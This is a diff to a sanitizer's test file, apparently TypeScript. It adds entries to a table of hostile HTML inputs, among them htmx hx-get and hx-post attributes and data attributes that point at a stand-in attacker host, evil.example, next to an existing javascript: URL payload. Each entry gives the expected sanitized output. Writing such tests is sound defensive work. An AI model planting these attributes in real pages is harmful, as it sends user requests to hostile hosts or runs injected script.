@@ -61,6 +61,12 @@ const hostile: [what: string, html: string, comesOutAs: string[]][] = [
     ['div', 'a href=/'],
   ],
   ['htmx posting to elsewhere', '<p hx-post="https://evil.example/">a</p>', ['p']],
+  ['htmx asking elsewhere', '<p hx-get="//evil.example/">a</p>', ['p']],
+  [
+    'searches told to elsewhere',
+    '<p data-tell="https://evil.example/" data-searched="a: b">a</p>',
+    ['p data-searched=a: b'],
+  ],
   ['htmx posting to a script', '<p hx-post="javascript:window.pwned=1">a</p>', ['p']],
   [
     'a trigger that is script',
